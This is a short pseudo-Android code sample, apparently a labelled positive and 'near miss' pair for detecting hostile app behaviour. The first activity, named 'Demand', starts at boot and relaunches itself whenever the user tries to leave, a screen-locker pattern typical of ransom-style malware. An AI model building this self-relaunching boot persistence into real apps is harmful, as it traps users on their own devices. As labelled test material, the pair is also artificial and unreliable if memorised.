permissions("RECEIVE_BOOT_COMPLETED")

@receiver(actions=["android.intent.action.BOOT_COMPLETED"])
class Start(BroadcastReceiver):
    def onReceive(self, context, intent):
        context.startActivity(Intent(context, Demand).addFlags(268435456))

@activity
class Demand(Activity):
    def onCreate(self, state):
        super().onCreate(state)
    def onUserLeaveHint(self):
        self.again()
    def onResume(self):
        pass
    def again(self):
        self.startActivity(Intent(self, Demand))

# near miss: starts its next screen when it comes to the front, and lets itself be left
@activity
class Demand(Activity):
    def onCreate(self, state):
        super().onCreate(state)
    def onUserLeaveHint(self):
        pass
    def onResume(self):
        self.again()
    def again(self):
        self.startActivity(Intent(self, Demand))
